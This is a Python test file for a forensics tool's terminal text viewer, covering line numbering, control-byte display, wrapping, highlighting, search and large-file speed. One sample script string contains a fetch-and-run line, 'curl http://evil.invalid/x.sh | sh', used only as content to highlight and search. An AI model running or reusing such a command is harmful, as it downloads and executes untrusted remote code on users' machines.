"""The text view: every byte in a line, lines in their place, marks, search, wrapping, and large files."""

from __future__ import annotations

from pathlib import Path

from forensics.tui.widgets import Highlight, ReadableBytes, TextView, in_memory
from forensics.tui.widgets.text_view import TAB
from tests.widget_host import hosted, lines_of, quickest, until

MIB = 1 << 20
SCRIPT = b'#!/bin/sh\nif [ -n "$HOME" ]; then\n\tcurl http://evil.invalid/x.sh | sh  # run\nfi\n'


async def test_lines_have_their_numbers_and_tabs_are_expanded() -> None:
    view = TextView(in_memory(b"one\n\ttwo\na\tb\n"))
    async with hosted(view, size=(40, 6)) as (_, __):
        assert lines_of(view)[:4] == [
            "   1   one",
            "   2   " + " " * TAB + "two",
            "   3   a" + " " * (TAB - 1) + "b",
            "",
        ]


async def test_a_file_without_a_last_line_feed_and_an_empty_one() -> None:
    view = TextView(in_memory(b"one\ntwo"))
    async with hosted(view, size=(40, 6)) as (_, __):
        assert (view.row_count, view.line_count) == (2, 2)
    empty = TextView(in_memory(b""))
    async with hosted(empty, size=(40, 6)) as (pilot, _):
        await pilot.press("j", "G", "g", "l", "h", "n", "w", "y")
        assert (empty.row_count, empty.line_count) == (0, 0)
        assert lines_of(empty) == [""] * 6


async def test_carriage_returns_and_control_bytes_are_visible() -> None:
    view = TextView(in_memory(b"dos\r\nover\rwrite\n\x1b[2J\x00\xff\n"))
    async with hosted(view, size=(60, 6)) as (_, __):
        assert [line[7:] for line in lines_of(view)[:3]] == ["dos␍", "over\\x0dwrite", "\\x1b[2J\\x00\\xff"]


async def test_a_long_line_goes_on_in_rows_that_lose_no_byte() -> None:
    line = b"".join(b"%07d " % number for number in range(2000))
    view = TextView(in_memory(b"first\n" + line + b"\nlast\n"))
    async with hosted(view, size=(60, 20)) as (pilot, _):
        assert view.row_count == 2 + 4
        assert view.line_count == 3
        shown = lines_of(view)
        assert [row[:7].strip() for row in shown[:6]] == ["1", "2", "↪", "↪", "↪", "3"]
        assert shown[1].endswith("…")
        for _ in range(600):
            view.action_cursor_right()
        await pilot.pause()
        assert lines_of(view)[1].rstrip().endswith("0000511")
        assert lines_of(view)[1][7] == "…"
        await pilot.press("h")
        assert lines_of(view)[1].endswith("…")


async def test_a_marked_place_is_underlined_and_its_line_has_a_sign() -> None:
    start = SCRIPT.index(b"curl")
    view = TextView(in_memory(SCRIPT), [Highlight(start, 4, "download")], language="sh")
    async with hosted(view, size=(60, 6)) as (_, __):
        assert [line[5] for line in lines_of(view)[:4]] == [" ", " ", "»", " "]
        marked = [piece.text for piece in view.render_line(2) if piece.style and piece.style.underline]
        assert marked == ["curl", "http://evil.invalid/x.sh"]


async def test_syntax_colours_change_the_style_and_never_the_text() -> None:
    plain, coloured = TextView(in_memory(SCRIPT)), TextView(in_memory(SCRIPT), language="sh")
    async with hosted(plain, size=(60, 6)) as (_, __):
        expected = lines_of(plain)
    async with hosted(coloured, size=(60, 6)) as (_, __):
        assert lines_of(coloured) == expected
        styles = {piece.text.strip(): piece.style for piece in coloured.render_line(1)}
        assert styles["if"] != styles['"$HOME"']


async def test_a_jump_goes_to_the_line_and_the_column_of_a_byte() -> None:
    content = b"".join(b"line %d\n" % number for number in range(5000)) + b"x" * 3000 + b"needle\n"
    view = TextView(in_memory(content))
    async with hosted(view, TextView.Moved, size=(60, 21)) as (pilot, host):
        view.jump(content.index(b"line 3210"), 9)
        await pilot.pause()
        assert view.cursor_line == 3211
        assert "line 3210" in lines_of(view)[10]
        view.jump(content.index(b"needle"), 6)
        await pilot.pause()
        assert "needle" in "\n".join(lines_of(view))
        assert [message.offset for message in host.take()] == [
            content.index(b"line 3210"),
            content.index(b"needle"),
        ]


async def test_n_goes_from_mark_to_mark_also_within_one_line() -> None:
    view = TextView(in_memory(b"aa bb aa\ncc aa\n"), [Highlight(0, 2), Highlight(6, 2), Highlight(12, 2)])
    async with hosted(view, size=(60, 6)) as (pilot, _):
        seen = []
        for key in ("n", "n", "n", "N"):
            await pilot.press(key)
            seen.append((view.cursor_offset, view.cursor_line))
        assert seen == [(6, 1), (12, 2), (0, 1), (12, 2)]


async def test_a_search_marks_what_it_finds() -> None:
    view = TextView(in_memory(SCRIPT))
    async with hosted(view, TextView.SearchEnded, size=(60, 6)) as (pilot, host):
        view.find((b"EVIL",), ignore_case=True)
        await until(lambda: bool(host.heard), pilot)
        assert view.cursor_line == 3
        found = [piece.text for piece in view.render_line(2) if piece.style and piece.style.reverse]
        assert found == ["evil"]


async def test_wrapping_shows_all_of_a_line_and_follows_the_width() -> None:
    words = " ".join(f"word{number:03}" for number in range(40))
    view = TextView(in_memory(words.encode() + b"\nend\n"))
    async with hosted(view, size=(60, 20)) as (pilot, _):
        await pilot.press("w")
        assert "".join(line[7:].ljust(52) for line in lines_of(view)[:7]).rstrip() == words
        await pilot.resize_terminal(40, 20)
        await pilot.pause()
        assert "".join(line[7:].ljust(32) for line in lines_of(view)[:10]).rstrip() == words
        await pilot.press("w")
        assert view.row_count == 2


async def test_characters_of_several_bytes_are_not_cut_at_the_end_of_a_row() -> None:
    text = "é€𝄞" * 3000
    view = TextView(in_memory(text.encode()))
    async with hosted(view, size=(60, 20)) as (_, __):
        assert "\\x" not in "".join(lines_of(view))
        joined = "".join(
            view.source.read(span.offset, span.length).decode()
            for span in view.index.spans(0, view.row_count)
        )
        assert joined == text


async def test_copying_a_line_copies_it_printable() -> None:
    view = TextView(in_memory(b"a\x1b]52;c;eA==\x07b\n"))
    async with hosted(view) as (pilot, host):
        await pilot.press("y")
        assert host.clipboards == ["a\\x1b]52;c;eA==\\x07b"]


async def test_a_large_file_is_there_at_once_and_its_lines_are_found_in_a_thread() -> None:
    line = b"0123456789" * 6 + b"\n"
    size = 64 * MIB

    def read(offset: int, length: int) -> bytes:
        shift = offset % len(line)
        return (line * (length // len(line) + 2))[shift : shift + length]

    view = TextView(ReadableBytes(size, read))
    async with hosted(view, TextView.Indexed, size=(90, 40)) as (pilot, _):
        assert lines_of(view)[0].endswith("0123456789")
        view.jump(size - 100)
        await until(lambda: view.index.complete, pilot)
        assert view.line_count == -(-size // len(line))
        assert view.cursor_line == (size - 100) // len(line) + 1
        assert quickest(lambda: lines_of(view)) < 0.1
        assert quickest(view.action_page_up) < 0.1


async def test_a_binary_read_as_text_is_drawn_in_time() -> None:
    view = TextView(in_memory(bytes(range(256)) * 4096), language="sh")
    async with hosted(view, size=(200, 60)) as (_, __):
        assert quickest(lambda: lines_of(view)) < 0.1
        assert quickest(view.action_cursor_right) < 0.1


async def test_quitting_while_lines_are_being_found_takes_no_time() -> None:
    view = TextView(ReadableBytes(1 << 40, lambda offset, length: bytes(length)))
    async with hosted(view) as (pilot, _):
        await pilot.press("j")
        assert not view.index.complete


async def test_this_very_file_is_shown_as_it_is() -> None:
    content = Path(__file__).read_bytes()
    view = TextView(in_memory(content), language="python")
    async with hosted(view, size=(140, 60)) as (_, __):
        assert [line[7:] for line in lines_of(view)[:30]] == content.decode().splitlines()[:30]
